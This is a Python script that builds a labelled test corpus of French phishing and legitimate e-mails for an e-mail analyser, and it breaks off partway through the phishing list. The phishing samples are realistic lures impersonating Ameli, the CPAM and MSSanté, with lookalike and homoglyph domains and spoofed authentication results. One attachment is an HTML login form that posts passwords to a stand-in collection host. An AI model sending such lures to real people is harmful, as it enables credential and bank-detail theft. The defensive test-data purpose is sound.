"""Generate the e-mail corpus of the analyser's tests: ``tests/data/emails/``.

Realistic French e-mails received by two medico-social facilities (an EHPAD on Microsoft 365,
a FAM on a Postfix server), deterministic: fixed dates, Message-IDs, MIME boundaries, IP
addresses and attachments derived from each file's name, so that a regeneration is
byte-identical and ``--check`` can verify the committed files.

    .venv/bin/python scripts/make_email_corpus.py          # (re)write the corpus
    .venv/bin/python scripts/make_email_corpus.py --check  # exit 1 if it differs

``phishing/`` and ``legit/`` are the labelled sets of ``scripts/eval_mail.py``; ``hostile/``
holds small hostile files (the large ones are built on the fly by the tests with the
functions below). Nothing here is executable: executables, scripts, macros and disk images
are inert stubs carrying only the first bytes a real one would have.
"""

from __future__ import annotations

import argparse
import base64
import datetime as dt
import hashlib
import io
import quopri
import random
import sys
import zipfile
from collections.abc import Iterable
from dataclasses import dataclass, field
from email.header import Header
from email.utils import format_datetime
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
OUT = ROOT / "tests" / "data" / "emails"
SEED = "vigie-mail-corpus-1"

# Domains a deployment would put in ``mail_trusted_domains``: the facilities', the
# provider's and the care-software vendor's (the analyser's defaults hold the public ones).
TRUSTED_EXTRA: tuple[str, ...] = (
    "ehpad-lestilleuls.fr",
    "fam-horizon.org",
    "axion-si.fr",
    "logisoins.fr",
)

TZ = dt.timezone(dt.timedelta(hours=1))
T0 = dt.datetime(2026, 3, 2, 7, 41, 12, tzinfo=TZ)

# --- the facilities -----------------------------------------------------------------------
TILLEULS = "ehpad-lestilleuls.fr"  # EHPAD Les Tilleuls, Microsoft 365
HORIZON = "fam-horizon.org"  # FAM L'Horizon, Postfix at a host
PROVIDER = "axion-si.fr"  # Axion Santé Informatique, the IT provider


@dataclass
class Recipient:
    name: str
    address: str

    @property
    def domain(self) -> str:
        return self.address.rsplit("@", 1)[1]


COMPTA_T = Recipient("Sophie Lambert", f"s.lambert@{TILLEULS}")
ACCUEIL_T = Recipient("Accueil EHPAD Les Tilleuls", f"accueil@{TILLEULS}")
IDEC_T = Recipient("Julie Perrin", f"j.perrin@{TILLEULS}")
DIRECTION_T = Recipient("Catherine Marchal", f"c.marchal@{TILLEULS}")
RH_T = Recipient("Nathalie Roux", f"rh@{TILLEULS}")
ANIM_T = Recipient("Léa Martin", f"animation@{TILLEULS}")
COMPTA_H = Recipient("Marc Weber", f"compta@{HORIZON}")
SECRETARIAT_H = Recipient("Secrétariat FAM L'Horizon", f"secretariat@{HORIZON}")
CADRE_H = Recipient("Isabelle Henry", f"i.henry@{HORIZON}")
DIRECTION_H = Recipient("Éric Vasseur", f"e.vasseur@{HORIZON}")


# --- attachments (inert stubs with realistic first bytes) ---------------------------------
def pdf(title: str) -> bytes:
    """A minimal valid one-page PDF showing ``title`` (ASCII)."""
    text = title.encode("latin-1", "replace").replace(b"(", b"[").replace(b")", b"]")
    stream = b"BT /F1 14 Tf 72 770 Td (" + text + b") Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += str(number).encode() + b" 0 obj\n" + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 " + str(len(objects) + 1).encode() + b"\n0000000000 65535 f \n"
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def pe_stub(tag: str) -> bytes:
    """The first bytes of a Windows executable (MZ header, DOS stub, PE signature)."""
    head = bytearray(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00")
    head += b"\xb8" + b"\x00" * 7 + b"\x40" + b"\x00" * 35
    head += (0x80).to_bytes(4, "little")
    head += b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21"
    head += b"This program cannot be run in DOS mode.\r\r\n$"
    head = head.ljust(0x80, b"\x00")
    head += b"PE\x00\x00\x64\x86\x03\x00"
    head += b"\x00" * 16 + b"inert corpus stub " + tag.encode()
    return bytes(head.ljust(1024, b"\x00"))


def script_stub(tag: str) -> bytes:
    return (
        f"// {tag}\r\n// Fichier de test inerte du corpus Vigie.\r\n"
        'WScript.Echo("corpus de test");\r\n'
    ).encode()


def ole_macro_stub() -> bytes:
    """The first bytes of an old Office document holding a VBA project."""
    head = bytearray(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16)
    head += b"\x3e\x00\x03\x00\xfe\xff\x09\x00\x06\x00"
    head = head.ljust(512, b"\x00")
    head += "Macros".encode("utf-16-le") + b"\x00" * 10
    head += "_VBA_PROJECT".encode("utf-16-le") + b"\x00" * 10
    head += b'Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\nEnd Sub\r\n'
    return bytes(head.ljust(2048, b"\x00"))


ZIP_DATE = (2026, 2, 27, 10, 12, 0)


def make_zip(entries: Iterable[tuple[str, bytes]], compress: bool = True) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in entries:
            info = zipfile.ZipInfo(name, date_time=ZIP_DATE)
            info.compress_type = zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED
            info.external_attr = 0o644 << 16
            archive.writestr(info, data)
    return buffer.getvalue()


def docm(title: str) -> bytes:
    """An Office Open XML Word document with a VBA project (macro-enabled)."""
    content_types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/word/document.xml" '
        'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
    )
    document = (
        '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.'
        'openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>'
        f"{title} — activez le contenu pour afficher le document"
        "</w:t></w:r></w:p></w:body></w:document>"
    )
    return make_zip(
        [
            ("[Content_Types].xml", content_types.encode()),
            ("word/document.xml", document.encode()),
            ("word/vbaProject.bin", ole_macro_stub()),
        ]
    )


def iso_stub() -> bytes:
    """An ISO 9660 image: the primary volume descriptor at sector 16 ("CD001")."""
    data = bytearray(32768)
    data += b"\x01CD001\x01\x00" + b"LINUX".ljust(32) + b"FACTURE_2026".ljust(32)
    return bytes(data.ljust(34816, b"\x00"))


def img_stub() -> bytes:
    """A raw disk image: a FAT boot sector with its 0x55AA signature."""
    sector = bytearray(b"\xeb\x3c\x90MSDOS5.0\x00\x02\x08\x01\x00\x02\x00\x02")
    sector = sector.ljust(0x36, b"\x00") + b"FAT12   "
    sector = sector.ljust(510, b"\x00") + b"\x55\xaa"
    return bytes(sector.ljust(4096, b"\x00"))


def lnk_stub(target: str) -> bytes:
    """A Windows shortcut: header size 0x4C and the ShellLink CLSID."""
    head = bytearray(b"\x4c\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00")
    head += b"\x00\x00\x00\x46\x9b\x00\x08\x00\x20\x00\x00\x00"
    head = head.ljust(76, b"\x00")
    head += target.encode("utf-16-le")
    return bytes(head.ljust(512, b"\x00"))


def rar_stub() -> bytes:
    return (b"Rar!\x1a\x07\x01\x00" + b"\x00" * 56).ljust(256, b"\x00")


def ics(summary: str, start: str) -> bytes:
    return (
        "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Microsoft Corporation//Outlook 16.0//FR\r\n"
        "METHOD:REQUEST\r\nBEGIN:VEVENT\r\n"
        f"DTSTART;TZID=Europe/Paris:{start}\r\nSUMMARY:{summary}\r\n"
        "UID:vigie-corpus-" + hashlib.sha256(summary.encode()).hexdigest()[:16] + "\r\n"
        "END:VEVENT\r\nEND:VCALENDAR\r\n"
    ).encode()


def png_pixel() -> bytes:
    return base64.b64decode(
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8/5+hHgAHggJ/PchI7wAAAABJRU5ErkJggg=="
    )


# --- message building ---------------------------------------------------------------------
@dataclass
class Att:
    filename: str
    ctype: str
    data: bytes
    inline_cid: str | None = None


@dataclass
class Mail:
    name: str
    label: str  # phishing | legit
    kind: str
    desc: str
    sender: tuple[str, str]  # display name, address
    to: Recipient
    subject: str
    body: str  # paragraphs; [[label|href]] marks a link
    html: bool = True
    html_only: bool = False
    atts: list[Att] = field(default_factory=list)
    auth: tuple[str, str, str] | None = ("pass", "pass", "pass")  # spf, dkim, dmarc
    mailfrom: str | None = None  # envelope sender (Return-Path), default the From address
    dkim_domain: str | None = None
    reply_to: str | None = None
    origin: str | None = None  # sending host name, default from the envelope domain
    extra: list[tuple[str, str]] = field(default_factory=list)
    mua: str = ""
    brand: str = ""  # header line of the HTML layout
    pixel: str = ""  # URL of a tracking pixel in the HTML
    footer: str = ""
    cte: str = "quoted-printable"
    crlf: bool = False
    cc: str | None = None
    hops: int = 2


def rng(name: str) -> random.Random:
    return random.Random(f"{SEED}:{name}")


def digest(name: str, salt: str = "", size: int = 16) -> str:
    return hashlib.sha256(f"{SEED}:{name}:{salt}".encode()).hexdigest()[:size]


def token(name: str, salt: str, size: int = 22) -> str:
    raw = hashlib.sha256(f"{SEED}:{name}:{salt}".encode()).digest()
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")[:size]


def public_ip(r: random.Random) -> str:
    first = r.choice([5, 31, 37, 45, 51, 54, 62, 77, 80, 91, 92, 109, 141, 146, 176, 185, 193])
    return f"{first}.{r.randint(1, 254)}.{r.randint(0, 254)}.{r.randint(1, 254)}"


def enc(value: str) -> str:
    """A header value, RFC 2047-encoded when it is not ASCII."""
    try:
        value.encode("ascii")
    except UnicodeEncodeError:
        return Header(value, "utf-8", maxlinelen=76, header_name="Subject").encode()
    return value


def addr(name: str, address: str) -> str:
    if not name:
        return address
    try:
        name.encode("ascii")
    except UnicodeEncodeError:
        return f"{Header(name, 'utf-8').encode()} <{address}>"
    if any(ch in name for ch in ",.;:()<>@[]\"'"):
        quoted = name.replace("\\", "\\\\").replace('"', '\\"')
        return f'"{quoted}" <{address}>'
    return f"{name} <{address}>"


def domain_of(address: str) -> str:
    return address.rsplit("@", 1)[1].lower()


def split_links(body: str) -> list[tuple[str, str | None]]:
    """Split ``body`` into (text, href) runs; href is None for plain text."""
    runs: list[tuple[str, str | None]] = []
    rest = body
    while "[[" in rest:
        before, _, after = rest.partition("[[")
        inner, _, rest = after.partition("]]")
        label, _, href = inner.partition("|")
        runs.append((before, None))
        runs.append((label, href or label))
    runs.append((rest, None))
    return runs


def render_text(body: str) -> str:
    out = []
    for text, href in split_links(body):
        if href is None:
            out.append(text)
        elif text == href:
            out.append(href)
        else:
            out.append(f"{text} <{href}>")
    return "".join(out).strip() + "\n"


def html_escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def render_html(mail: Mail) -> str:
    blocks = []
    for paragraph in mail.body.strip().split("\n\n"):
        parts = []
        for text, href in split_links(paragraph):
            if href is None:
                parts.append(html_escape(text).replace("\n", "<br>\n"))
            else:
                parts.append(
                    f'<a href="{html_escape(href)}" style="color:#0b5cad">{html_escape(text)}</a>'
                )
        blocks.append('<p style="margin:0 0 14px 0">' + "".join(parts) + "</p>")
    brand = (
        f'<tr><td style="background:#0b5cad;color:#fff;padding:14px 24px;font-size:18px">'
        f"<b>{html_escape(mail.brand)}</b></td></tr>\n"
        if mail.brand
        else ""
    )
    footer = (
        f'<tr><td style="padding:12px 24px;font-size:11px;color:#777">{mail.footer}</td></tr>\n'
        if mail.footer
        else ""
    )
    if mail.pixel:
        blocks.append(f'<img src="{mail.pixel}" width="1" height="1" alt="">')
    return (
        '<!DOCTYPE html>\n<html lang="fr"><head><meta charset="utf-8">'
        f"<title>{html_escape(mail.subject)}</title></head>\n"
        '<body style="font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#222">\n'
        '<table role="presentation" width="600" cellpadding="0" cellspacing="0" align="center">\n'
        f"{brand}"
        '<tr><td style="padding:20px 24px">\n' + "\n".join(blocks) + "\n</td></tr>\n"
        f"{footer}</table>\n</body></html>\n"
    )


def encode_body(text: str, cte: str) -> str:
    data = text.encode("utf-8")
    if cte == "base64":
        return wrap_b64(data)
    if cte == "8bit":
        return text
    return quopri.encodestring(data).decode("ascii")


def wrap_b64(data: bytes) -> str:
    encoded = base64.b64encode(data).decode("ascii")
    return "\n".join(encoded[i : i + 76] for i in range(0, len(encoded), 76)) + "\n"


def text_part(subtype: str, content: str, cte: str) -> str:
    return (
        f'Content-Type: text/{subtype}; charset="utf-8"\n'
        f"Content-Transfer-Encoding: {cte}\n\n" + encode_body(content, cte)
    )


def attachment_part(att: Att) -> str:
    if att.ctype == "message/rfc822":
        return (
            "Content-Type: message/rfc822\n"
            f'Content-Disposition: attachment; filename="{att.filename}"\n'
            "Content-Transfer-Encoding: 8bit\n\n" + att.data.decode("utf-8")
        )
    try:
        att.filename.encode("ascii")
        fname = f'filename="{att.filename}"'
        pname = f'name="{att.filename}"'
    except UnicodeEncodeError:
        quoted = "".join(
            ch if (ch.isascii() and ch.isalnum()) or ch in "._-" else f"%{b:02X}"
            for ch in att.filename
            for b in ([ord(ch)] if ch.isascii() else ch.encode())
        )
        fname = f"filename*=utf-8''{quoted}"
        pname = f'name="{Header(att.filename, "utf-8").encode()}"'
    disposition = "inline" if att.inline_cid else "attachment"
    head = f"Content-Type: {att.ctype}; {pname}\nContent-Disposition: {disposition}; {fname}\n"
    if att.inline_cid:
        head += f"Content-ID: <{att.inline_cid}>\n"
    return head + "Content-Transfer-Encoding: base64\n\n" + wrap_b64(att.data)


def multipart(subtype: str, boundary: str, parts: list[str]) -> str:
    body = f'Content-Type: multipart/{subtype};\n\tboundary="{boundary}"\n\n'
    for part in parts:
        body += f"--{boundary}\n{part.rstrip(chr(10))}\n"
    return body + f"--{boundary}--\n"


def auth_header(mail: Mail, ip: str) -> list[tuple[str, str]]:
    if mail.auth is None:
        return []
    spf, dkim, dmarc = mail.auth
    from_domain = domain_of(mail.sender[1])
    envelope = domain_of(mail.mailfrom or mail.sender[1])
    dkim_domain = mail.dkim_domain or from_domain
    if mail.to.domain == TILLEULS:
        dkim_text = {
            "pass": "pass (signature was verified)",
            "fail": "fail (body hash did not verify)",
            "none": "none (message not signed)",
        }[dkim]
        dmarc_text = {
            "pass": "pass action=none",
            "fail": "fail action=quarantine",
            "none": "none action=none",
            "bestguesspass": "bestguesspass action=none",
        }[dmarc]
        compauth = "pass reason=100" if dmarc == "pass" else "fail reason=001"
        value = (
            f"spf={spf} (sender IP is {ip})\n smtp.mailfrom={envelope}; "
            f"dkim={dkim_text}\n header.d={dkim_domain};dmarc={dmarc_text}\n"
            f" header.from={from_domain};compauth={compauth}"
        )
        return [("Authentication-Results", value)]
    dkim_part = (
        f"dkim={dkim} header.d={dkim_domain} header.s=mail header.b={token(mail.name, 'b', 8)}"
        if dkim != "none"
        else "dkim=none"
    )
    value = (
        f"mx2.{HORIZON};\n\tspf={spf} smtp.mailfrom={envelope};\n\t{dkim_part};\n"
        f"\tdmarc={dmarc} (p=QUARANTINE sp=NONE dis=NONE) header.from={from_domain}"
    )
    return [("Authentication-Results", value)]


def received_chain(mail: Mail, when: dt.datetime, ip: str) -> list[tuple[str, str]]:
    r = rng(mail.name + ":rcv")
    envelope = domain_of(mail.mailfrom or mail.sender[1])
    origin = mail.origin or f"mail-out.{envelope}"
    stamp = format_datetime(when)
    recv: list[tuple[str, str]] = []
    if mail.to.domain == TILLEULS:
        host = f"PA{r.randint(1, 9)}P264MB{r.randint(1000, 9999)}.FRAP264.PROD.OUTLOOK.COM"
        edge = (
            f"MR{r.randint(1, 2)}FRA0{r.randint(10, 99)}.eurprd0{r.randint(1, 9)}.prod.outlook.com"
        )
        recv.append(
            (
                "Received",
                f"from {edge} (2603:10a6:501:{r.randint(10, 99)}::{r.randint(1, 9)}) by\n"
                f" {host} (2603:10a6:102:{r.randint(100, 400)}::{r.randint(5, 20)}) with "
                f"Microsoft SMTP Server (version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384)"
                f" id 15.20.{r.randint(7000, 8999)}.{r.randint(10, 40)}; {stamp}",
            )
        )
        recv.append(
            (
                "Received",
                f"from {origin} ({ip}) by\n {edge} (10.167.242.{r.randint(2, 250)}) with "
                f"Microsoft SMTP\n Server (version=TLS1_3, cipher=TLS_AES_256_GCM_SHA384) id "
                f"15.20.{r.randint(7000, 8999)}.{r.randint(10, 40)}\n via Frontend Transport; {stamp}",
            )
        )
    else:
        qid = "".join(
            r.choice("0123456789ABCDEFGHJKLMNPQRSTVWXYZbcdfghjklmnpqrstvwxz") for _ in range(13)
        )
        recv.append(
            (
                "Received",
                f"from {origin} ({origin} [{ip}])\n\tby mx2.{HORIZON} (Postfix) with ESMTPS id {qid}\n"
                f"\tfor <{mail.to.address}>; {stamp}",
            )
        )
    for hop in range(mail.hops - 1):
        inner = when - dt.timedelta(seconds=2 + hop * 3)
        recv.append(
            (
                "Received",
                f"from [10.{r.randint(0, 40)}.{r.randint(0, 254)}.{r.randint(2, 250)}] "
                f"(unknown [10.{r.randint(0, 40)}.{r.randint(0, 254)}.{r.randint(2, 250)}])\n"
                f"\tby {origin} with ESMTPSA id {digest(mail.name, str(hop), 12)};\n"
                f"\t{format_datetime(inner)}",
            )
        )
    return recv


def fold(name: str, value: str) -> str:
    lines = value.split("\n")
    return f"{name}: " + "\n".join(
        line if i == 0 or line[:1] in (" ", "\t") else " " + line for i, line in enumerate(lines)
    )


def build(mail: Mail, index: int) -> bytes:
    r = rng(mail.name)
    when = T0 + dt.timedelta(hours=7 * index + r.randint(0, 5), minutes=r.randint(0, 59))
    ip = public_ip(r)
    sender_domain = domain_of(mail.sender[1])
    boundary = f"----=_Part_{r.randint(100000, 999999)}_{digest(mail.name, 'bnd', 10)}"
    headers: list[tuple[str, str]] = []
    headers.append(("Return-Path", f"<{mail.mailfrom or mail.sender[1]}>"))
    headers += received_chain(mail, when, ip)
    headers += auth_header(mail, ip)
    if mail.auth and mail.auth[1] != "none":
        headers.append(
            (
                "DKIM-Signature",
                f"v=1; a=rsa-sha256; c=relaxed/relaxed; d={mail.dkim_domain or sender_domain};\n"
                f"\ts=mail; t={int(when.timestamp())}; h=from:to:subject:date:message-id;\n"
                f"\tbh={base64.b64encode(hashlib.sha256(mail.name.encode()).digest()).decode()};\n"
                f"\tb={base64.b64encode(hashlib.sha512(mail.name.encode()).digest()).decode()}",
            )
        )
    headers.append(("From", addr(*mail.sender)))
    headers.append(("To", addr(mail.to.name, mail.to.address)))
    if mail.cc:
        headers.append(("Cc", mail.cc))
    if mail.reply_to:
        headers.append(("Reply-To", mail.reply_to))
    headers.append(("Subject", enc(mail.subject)))
    headers.append(("Date", format_datetime(when)))
    msgid_domain = sender_domain if r.random() < 0.7 else f"{sender_domain.split('.')[0]}.mail"
    headers.append(("Message-ID", f"<{digest(mail.name, 'mid', 24)}@{msgid_domain}>"))
    headers += mail.extra
    if mail.mua:
        headers.append(("X-Mailer", mail.mua))
    headers.append(("MIME-Version", "1.0"))

    text = render_text(mail.body)
    if mail.html_only:
        body = text_part("html", render_html(mail), mail.cte)
    elif mail.html:
        body = multipart(
            "alternative",
            boundary + "_alt",
            [text_part("plain", text, mail.cte), text_part("html", render_html(mail), mail.cte)],
        )
    else:
        body = text_part("plain", text, mail.cte)
    inline = [a for a in mail.atts if a.inline_cid]
    attached = [a for a in mail.atts if not a.inline_cid]
    if inline:
        body = multipart("related", boundary + "_rel", [body, *map(attachment_part, inline)])
    if attached:
        body = multipart("mixed", boundary, [body, *map(attachment_part, attached)])
    head = "\n".join(fold(k, v) for k, v in headers)
    message = head + "\n" + body
    if mail.crlf:
        message = message.replace("\n", "\r\n")
    return message.encode("utf-8")


# --- link helpers -------------------------------------------------------------------------
def track(name: str, i: int, host: str = "xr4k2.r.sp1-brevo.net") -> str:
    return f"https://{host}/mk/cl/f/sh/{token(name, f'trk{i}', 40)}"


def sig(who: str, role: str, org: str, phone: str) -> str:
    return f"\n\n{who}\n{role}\n{org}\nTél. : {phone}"


NBSP = "\u00a0"


def fr(text: str) -> str:
    """French typography: no-break space before ; : ! ? and inside « »."""
    for mark in (" :", " ;", " !", " ?"):
        text = text.replace(mark, NBSP + mark[1])
    return text.replace("« ", "«" + NBSP).replace(" »", NBSP + "»")


def rfc822(mail: Mail, index: int, filename: str) -> Att:
    """A whole message attached as message/rfc822 (forwarded "as attachment")."""
    return Att(filename, "message/rfc822", build(mail, index))


# --- phishing -----------------------------------------------------------------------------
AMELI_FOOTER = (
    "L'Assurance Maladie — ameli.fr — Ceci est un message automatique, merci de ne pas répondre."
)


def phishing() -> list[Mail]:
    P = "phishing"
    mails: list[Mail] = []
    add = mails.append

    # Fake Ameli / CPAM
    add(
        Mail(
            "ameli_remboursement_lookalike",
            P,
            "fake Ameli/CPAM",
            "Refund bait from ameli-remboursement.fr (own SPF/DKIM/DMARC pass), link to a lookalike.",
            ("Ameli", "service-client@ameli-remboursement.fr"),
            ACCUEIL_T,
            "Remboursement en attente : action requise",
            "Bonjour,\n\nAprès les derniers calculs de vos droits, vous pouvez bénéficier d'un "
            "remboursement de 163,48 €.\n\nPour recevoir ce montant, veuillez confirmer vos "
            "informations bancaires sous 48 heures depuis votre espace :\n\n"
            "[[Accéder à mon compte ameli|https://ameli-remboursement.fr/espace-assure/connexion.php]]"
            "\n\nPassé ce délai, le remboursement sera annulé.\n\nCordialement,\nL'Assurance Maladie",
            brand="ameli.fr",
            footer=AMELI_FOOTER,
        )
    )
    add(
        Mail(
            "ameli_carte_vitale_punycode",
            P,
            "fake Ameli/CPAM",
            "Carte Vitale renewal from a homoglyph domain (Cyrillic a, punycode), SPF pass.",
            ("Assurance Maladie", f"ne-pas-repondre@{'аmeli'.encode('idna').decode()}.fr"),
            RH_T,
            "Votre carte Vitale expire : renouvellement obligatoire",
            "Madame, Monsieur,\n\nVotre carte Vitale arrive à expiration. Afin d'éviter toute "
            "interruption de vos remboursements, vous devez commander votre nouvelle carte avant "
            "le 15 mars 2026.\n\nDes frais d'envoi de 2,90 € vous seront demandés.\n\n"
            f"[[Commander ma carte Vitale|https://{'аmeli'.encode('idna').decode()}.fr/carte-vitale/commande]]"
            "\n\nNous vous remercions de votre confiance.\n\nVotre caisse d'Assurance Maladie",
            auth=("pass", "none", "none"),
            brand="L'Assurance Maladie",
            footer=AMELI_FOOTER,
        )
    )
    add(
        Mail(
            "ameli_attestation_spoofed",
            P,
            "fake Ameli/CPAM",
            "From header spoofs ameli.fr exactly: envelope elsewhere, SPF softfail, DMARC fail.",
            ("ameli.fr", "noreply@ameli.fr"),
            IDEC_T,
            "Attestation de droits : mise à jour de votre dossier",
            "Bonjour,\n\nUne anomalie a été détectée sur votre dossier : votre attestation de "
            "droits n'est plus valide.\n\nMerci de mettre à jour vos informations en vous "
            "connectant avec vos identifiants FranceConnect :\n\n"
            "[[https://www.ameli.fr/assure/compte|http://ameli-dossier.info/fc/login?id=8841]]"
            "\n\nSans action de votre part sous 24 h, votre dossier sera suspendu.",
            auth=("softfail", "none", "fail"),
            mailfrom="bounce-1942@mx4.vps-hosting-eu.net",
            origin="vps-7712.vps-hosting-eu.net",
            brand="ameli",
            footer=AMELI_FOOTER,
        )
    )
    add(
        Mail(
            "ameli_cpam_outlook",
            P,
            "fake Ameli/CPAM",
            "CPAM display name on a free-mail address, asks for the social security number, the SMS code and a RIB.",
            ("CPAM de la Moselle", "cpam.moselle.service@outlook.fr"),
            COMPTA_T,
            "Régularisation de vos cotisations",
            "Bonjour Madame,\n\nSuite à un contrôle, la CPAM de la Moselle doit régulariser votre "
            "dossier. Merci de répondre à ce message avec :\n- votre numéro de sécurité sociale\n"
            "- le code reçu par SMS\n- un RIB à jour\n\nSans réponse de votre part, un "
            "prélèvement sera effectué.\n\nCordialement,\nService des prestations",
            html=False,
            auth=("pass", "pass", "pass"),
            origin="EUR05-AM6-obe.outbound.protection.outlook.com",
        )
    )
    add(
        Mail(
            "ameli_shortener_ip",
            P,
            "fake Ameli/CPAM",
            "Ameli display name, lookalike sender assurance-maladie-securite.com, bit.ly link, DKIM fail.",
            ("L'Assurance Maladie", "contact@assurance-maladie-securite.com"),
            CADRE_H,
            "Dernier rappel : votre compte ameli sera suspendu",
            "Bonjour,\n\nNous n'avons pas reçu la confirmation de vos coordonnées.\n\n"
            "DERNIER RAPPEL : votre compte sera suspendu le 05/03/2026.\n\n"
            "[[Confirmer mes coordonnées|https://bit.ly/3AmeLi-cnf]]\n\nL'Assurance Maladie",
            auth=("pass", "fail", "fail"),
            brand="ameli.fr",
        )
    )
    add(
        Mail(
            "ameli_ip_link",
            P,
            "fake Ameli/CPAM",
            "Ameli pro themed, link to a bare IP address, subdomain trick in the sender.",
            ("Ameli pro", "info@ameli.fr-espace-pro.info"),
            DIRECTION_H,
            "Ameli pro : vérification de votre carte CPS",
            "Madame, Monsieur,\n\nDans le cadre de la sécurisation de Pro Santé Connect, chaque "
            "établissement doit vérifier les cartes CPS de ses professionnels avant le 10 mars.\n\n"
            "[[Vérifier mes cartes CPS|http://185.243.12.7/amelipro/verification/]]\n\n"
            "Munissez-vous du code PIN de chaque carte.\n\nLe service Ameli pro",
            auth=("none", "none", "none"),
            brand="ameli pro",
        )
    )
    # Fake MSSanté
    add(
        Mail(
            "mssante_desactivation",
            P,
            "fake MSSanté",
            "MSSanté deactivation threat from mssante-messagerie.fr, credentials page.",
            ("MSSanté - Messagerie Sécurisée", "notification@mssante-messagerie.fr"),
            IDEC_T,
            "Votre boîte MSSanté sera désactivée",
            "Bonjour,\n\nVotre boîte aux lettres sécurisée MSSanté n'a pas été vérifiée depuis "
            "90 jours. Conformément à la politique de l'ANS, elle sera désactivée sous 24 h.\n\n"
            "Pour la conserver, connectez-vous et confirmez votre identité (identifiant et mot de "
            "passe) :\n\n[[Conserver ma boîte|https://mssante-messagerie.fr/mailiz/auth]]\n\n"
            "L'équipe MSSanté",
            brand="Mailiz — MSSanté",
        )
    )
    add(
        Mail(
            "mssante_punycode_html",
            P,
            "fake MSSanté",
            "Secure-message notice from mssanté.fr (punycode), HTML attachment holding a login form.",
            ("Mailiz", f"messagerie@{'mssanté'.encode('idna').decode()}.fr"),
            CADRE_H,
            "Nouveau message sécurisé de CH Val-de-Sarre",
            "Vous avez reçu un message sécurisé de dr.klein@ch-valdesarre.mssante.fr.\n\n"
            "Ouvrez la pièce jointe Message_securise.html pour le consulter avec votre carte CPS "
            "ou votre mot de passe.\n\nCe message expire dans 72 heures.",
            auth=("pass", "none", "none"),
            atts=[
                Att(
                    "Message_securise.html",
                    "text/html",
                    (
                        '<!DOCTYPE html><html><head><meta charset="utf-8"><title>Mailiz</title></head>'
                        '<body><h2>Mailiz - Connexion</h2><form method="post" '
                        'action="https://mailiz-secure-login.top/collect.php">'
                        '<input name="email" placeholder="Adresse MSSanté"><input type="password" '
                        'name="password" placeholder="Mot de passe"><button>Se connecter</button>'
                        "</form></body></html>"
                    ).encode(),
                )
            ],
        )
    )
    add(
        Mail(
            "mssante_subdomain",
            P,
            "fake MSSanté",
            "MSSanté password-expiry lure, sender mssante.fr.verif-compte.net, link text shows mssante.fr.",
            ("Support MSSanté", "support@mssante.fr.verif-compte.net"),
            IDEC_T,
            "Mot de passe expiré - messagerie sécurisée de santé",
            "Bonjour,\n\nLe mot de passe de votre messagerie sécurisée de santé a expiré.\n"
            "Vos messages entrants sont bloqués jusqu'à sa réactivation.\n\n"
            "[[https://mailiz.mssante.fr/|https://mssante.fr.verif-compte.net/login.html]]\n\n"
            "Cordialement,\nSupport MSSanté",
            auth=("pass", "pass", "pass"),
        )
    )
    add(
        Mail(
            "mssante_docm",
            P,
            "fake MSSanté",
            "Compte rendu lure: a .docm macro document from a typosquat of a hospital MSSanté domain.",
            ("Dr Paul Klein", "dr.klein@ch-valdesarre-mssante.fr"),
            IDEC_T,
            "CR hospitalisation Mme B.",
            "Bonjour,\n\nVeuillez trouver ci-joint le compte rendu d'hospitalisation de votre "
            "résidente. Le document est protégé : cliquez sur « Activer le contenu » pour "
            "l'afficher.\n\nBien confraternellement,\nDr P. Klein",
            html=False,
            auth=("pass", "pass", "none"),
            atts=[
                Att(
                    "CR_hospitalisation.docm",
                    "application/vnd.ms-word.document.macroEnabled.12",
                    docm("CR hospitalisation"),
                )
            ],
        )
    )
    # Mailbox full
    add(
        Mail(
            "quota_boite_pleine_homoglyph",
            P,
            "mailbox full",
            "Mailbox-full notice from the facility's own name with a capital I for l.",
            ("Administrateur messagerie", "postmaster@ehpad-lestiIleuls.fr"),
            ACCUEIL_T,
            "Votre boîte aux lettres est pleine (99 %)",
            "Votre boîte aux lettres a atteint 99 % de sa capacité.\n\nVous ne pourrez bientôt "
            "plus envoyer ni recevoir de messages. Augmentez votre espace de stockage gratuitement :"
            "\n\n[[Augmenter mon quota|https://ehpad-lestiileuls-webmail.com/quota/upgrade]]\n\n"
            "Administrateur système",
